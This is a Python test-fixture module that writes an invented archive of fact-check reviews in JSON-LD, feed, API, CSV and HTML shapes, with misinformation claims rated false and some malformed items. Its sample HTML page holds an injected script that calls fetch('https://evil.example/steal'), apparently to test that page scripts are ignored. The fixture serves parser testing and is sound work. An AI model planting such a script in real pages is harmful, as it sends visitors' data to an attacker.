# ruff: noqa: E501 (the CSV sample keeps one review a line, as a spreadsheet writes it)
"""A small archive of earlier fact-checks, written for the tests, in every input shape.

The reviews are made up (the URLs are under checks.example); they are in English,
French, Spanish, German and Brazilian Portuguese, with near-duplicates (the same claim
checked by two desks, related claims sharing words) and items that must be refused.
"""

from __future__ import annotations

import json
from pathlib import Path

BASE = "https://checks.example"

# ClaimReview JSON-LD, a list of items: English, plus three items to refuse.
CLAIM_REVIEWS = [
    {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "url": f"{BASE}/en/5g-coronavirus",
        "claimReviewed": "5G mobile networks spread the coronavirus",
        "itemReviewed": {"@type": "Claim", "author": {"@type": "Person", "name": "A blogger"}},
        "author": {"@type": "Organization", "name": "FactDesk"},
        "reviewRating": {
            "@type": "Rating",
            "ratingValue": 1,
            "bestRating": 5,
            "alternateName": "False",
        },
        "datePublished": "2020-04-06",
        "inLanguage": "en",
        "name": "How the 5G rumour started",
    },
    {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "url": f"{BASE}/en/5g-masts",
        "claimReviewed": "Burning 5G masts stops the spread of COVID-19",
        "author": {"@type": "Organization", "name": "FactDesk"},
        "reviewRating": {"@type": "Rating", "alternateName": "False"},
        "datePublished": "2020-04-10T09:30:00+01:00",
        "inLanguage": {"@type": "Language", "name": "English", "alternateName": "en"},
    },
    {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "url": f"{BASE}/en/vaccine-microchips",
        "claimReviewed": "COVID-19 vaccines contain microchips that track people",
        "author": {"@type": "Organization", "name": "FactDesk"},
        "reviewRating": {"@type": "Rating", "alternateName": "False"},
        "datePublished": "2021-01-15",
        "inLanguage": "en",
    },
    {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "url": f"{BASE}/en/vaccine-dna",
        "claimReviewed": "mRNA vaccines change your DNA",
        "author": {"@type": "Organization", "name": "FactDesk"},
        "reviewRating": {"@type": "Rating", "ratingValue": "2", "bestRating": "5"},
        "datePublished": "2021-02-01",
        "inLanguage": "en",
    },
    {
        "@context": "https://schema.org",
        "@type": "ClaimReview",
        "url": f"{BASE}/en/bleach",
        "claimReviewed": "Drinking bleach cures COVID-19",
        "author": {"@type": "Organization", "name": "FactDesk"},
        "reviewRating": {"@type": "Rating", "alternateName": "False"},
        "datePublished": "2020-03-30",
        "inLanguage": "en",
    },
    # Refused: no URL; a claim that is not text; a date that is not a date.
    {"@type": "ClaimReview", "claimReviewed": "Nobody can find this review", "inLanguage": "en"},
    {"@type": "ClaimReview", "url": f"{BASE}/en/odd", "claimReviewed": {"text": "nested"}},
    {
        "@type": "ClaimReview",
        "url": f"{BASE}/en/undated",
        "claimReviewed": "The sea level fell last year",
        "datePublished": "last Tuesday",
    },
]

# The ClaimReview data feed: French reviews and two English ones.
DATA_FEED = {
    "@context": "https://schema.org",
    "@type": "DataFeed",
    "dataFeedElement": [
        {
            "@type": "DataFeedItem",
            "dateCreated": "2022-01-01",
            "item": [
                {
                    "@type": "ClaimReview",
                    "url": f"{BASE}/fr/5g",
                    "claimReviewed": "La 5G propage le coronavirus",
                    "author": {"@type": "Organization", "name": "Les Vérificateurs"},
                    "reviewRating": {"@type": "Rating", "alternateName": "Faux"},
                    "datePublished": "2020-04-08",
                    "inLanguage": "fr",
                }
            ],
        },
        {
            "@type": "DataFeedItem",
            "item": {
                "@type": "ClaimReview",
                "url": f"{BASE}/fr/vaccins-puces",
                "claimReviewed": "Les vaccins contre le Covid contiennent des puces électroniques",
                "author": {"@type": "Organization", "name": "Les Vérificateurs"},
                "reviewRating": {"@type": "Rating", "alternateName": "Faux"},
                "datePublished": "2021-02-11",
                "inLanguage": "fr-FR",
            },
        },
        {
            "@type": "DataFeedItem",
            "item": [
                {
                    "@type": "ClaimReview",
                    "url": f"{BASE}/fr/chomage",
                    "claimReviewed": "Le chômage a atteint son plus bas niveau depuis quarante ans",
                    "author": {"@type": "Organization", "name": "Les Vérificateurs"},
                    "reviewRating": {"@type": "Rating", "alternateName": "Plutôt vrai"},
                    "datePublished": "2023-05-02",
                    "inLanguage": "fr",
                },
                {
                    "@type": "ClaimReview",
                    "url": f"{BASE}/fr/tour-eiffel",
                    "claimReviewed": "La tour Eiffel sera démontée l'année prochaine",
                    "author": {"@type": "Organization", "name": "Les Vérificateurs"},
                    "reviewRating": {"@type": "Rating", "alternateName": "Faux"},
                    "datePublished": "2019-04-01",
                    "inLanguage": "fr",
                },
            ],
        },
        {
            "@type": "DataFeedItem",
            "item": {
                "@type": "ClaimReview",
                "url": f"{BASE}/en/wind-turbines",
                "claimReviewed": "Wind turbines kill more birds than cats do",
                "author": {"@type": "Organization", "name": "FactDesk"},
                "reviewRating": {"@type": "Rating", "alternateName": "False"},
                "datePublished": "2019-09-09",
                "inLanguage": "en",
            },
        },
        # Refused: a claim holding NUL.
        {
            "@type": "DataFeedItem",
            "item": {
                "@type": "ClaimReview",
                "url": f"{BASE}/en/nul",
                "claimReviewed": "A claim with a NUL \u0000 in it",
            },
        },
    ],
}

# What the Google Fact Check Tools API returns (claims:search): Spanish and German.
GOOGLE = {
    "claims": [
        {
            "text": "Las redes 5G propagan el coronavirus",
            "claimant": "Redes sociales",
            "claimDate": "2020-04-01T00:00:00Z",
            "claimReview": [
                {
                    "publisher": {"name": "Verifica Ya", "site": "checks.example"},
                    "url": f"{BASE}/es/5g",
                    "title": "No, el 5G no propaga el coronavirus",
                    "reviewDate": "2020-04-03T10:00:00Z",
                    "textualRating": "Falso",
                    "languageCode": "es",
                }
            ],
        },
        {
            "text": "Las vacunas contra la covid contienen microchips para rastrear a la gente",
            "claimReview": [
                {
                    "publisher": {"name": "Verifica Ya"},
                    "url": f"{BASE}/es/vacunas-microchips",
                    "reviewDate": "2021-01-20T00:00:00Z",
                    "textualRating": "Falso",
                    "languageCode": "es",
                },
                {  # refused: not a web address
                    "publisher": {"name": "Otro"},
                    "url": "ftp://checks.example/es/copia",
                    "textualRating": "Falso",
                    "languageCode": "es",
                },
            ],
        },
        {
            "text": "5G-Masten verbreiten das Coronavirus",
            "claimReview": [
                {
                    "publisher": {"name": "Faktencheck"},
                    "url": f"{BASE}/de/5g",
                    "reviewDate": "2020-04-09T00:00:00Z",
                    "textualRating": "Falsch",
                    "languageCode": "de",
                }
            ],
        },
        {"text": "A claim without any review"},  # refused: no claimReview
    ],
    "nextPageToken": "CAo",
}

# CSV with the documented header; a near-duplicate of the 5G claim by another desk,
# a review whose language is not given, Chinese and Japanese reviews (two each, sharing
# the word for vaccine), and rows to refuse.
CSV = """claim,rating,url,date,title,publisher,language
5G networks are spreading the coronavirus,False,https://checks.example/other/5g,2020-04-07,,Other Desk,en
Unemployment fell to its lowest level in fifty years,Mostly true,https://checks.example/en/unemployment,2023-02-03,Jobs figures checked,FactDesk,en
Millions of dead people voted in the election,False,https://checks.example/en/dead-voters,2020-11-20,,FactDesk,English
Vacinas contêm microchips que rastreiam as pessoas,Falso,https://checks.example/pt/vacinas,2021-03-03,,Checagem,pt-BR
Urnas eletrônicas foram fraudadas na eleição,Falso,https://checks.example/pt/urnas,2022-10-31,,Checagem,pt_BR
Drinking hot water kills the coronavirus,False,https://checks.example/any/hot-water,2020-03-20,,Somewhere,
疫苗含有追踪芯片,错误,https://checks.example/zh/chips,2021-04-04,,核查,zh
新冠疫苗会改变人的基因,错误,https://checks.example/zh/genes,2021-06-01,,核查,zh
ワクチンにはマイクロチップが入っている,誤り,https://checks.example/ja/chips,2021-05-05,,ファクトチェック,ja
ワクチン接種で不妊になる,誤り,https://checks.example/ja/fertility,2021-07-07,,ファクトチェック,ja
A row with too few fields,False
Klingon warriors ate the budget,False,https://checks.example/en/klingon,2020-01-01,,FactDesk,tlhIngan Hol!
"""

# A saved fact-check page: ClaimReview in JSON-LD and in microdata, page scripts, a
# JSON-LD block that is not JSON, and a claim written with markup (kept as text).
PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Fact check: the Eiffel Tower</title>
<script>document.title = "hacked"; fetch("https://evil.example/steal");</script>
<script type="application/ld+json">{ this is not JSON </script>
<script type="application/ld+json">
{"@context": "https://schema.org", "@graph": [
  {"@type": "WebPage", "name": "Fact check"},
  {"@type": "ClaimReview", "url": "https://checks.example/en/eiffel",
   "claimReviewed": "The Eiffel Tower will be dismantled <b>next year</b>",
   "author": {"@type": "Organization", "name": "FactDesk"},
   "reviewRating": {"@type": "Rating", "alternateName": "False"},
   "datePublished": "2019-04-02", "inLanguage": "en"}]}
</script></head>
<body><h1>Fact check</h1><script>alert("page script")</script>
<p>The tower stays.</p>
<div itemscope itemtype="https://schema.org/ClaimReview">
  <link itemprop="url" href="https://checks.example/en/eiffel-scrap">
  <span itemprop="claimReviewed">The Eiffel Tower is being sold for scrap metal</span>
  <div itemprop="author" itemscope itemtype="https://schema.org/Organization">
    <span itemprop="name">Tower Watch</span></div>
  <div itemprop="reviewRating" itemscope itemtype="https://schema.org/Rating">
    <span itemprop="alternateName">False</span></div>
  <meta itemprop="datePublished" content="2019-05-05"><meta itemprop="inLanguage" content="en">
</div></body></html>
"""


def write_samples(folder: Path) -> dict[str, Path]:
    """Write the archive files into ``folder``; returns them by shape."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "jsonld": folder / "claimreviews.jsonld",
        "feed": folder / "feed.json",
        "google": folder / "google-api.json",
        "csv": folder / "archive.csv",
        "page": folder / "eiffel-check.html",
    }
    files["jsonld"].write_text(json.dumps(CLAIM_REVIEWS, indent=1), encoding="utf-8")
    files["feed"].write_text(json.dumps(DATA_FEED, ensure_ascii=False), encoding="utf-8")
    files["google"].write_text(json.dumps(GOOGLE), encoding="utf-8")
    files["csv"].write_text(CSV, encoding="utf-8")
    files["page"].write_text(PAGE, encoding="utf-8")
    return files
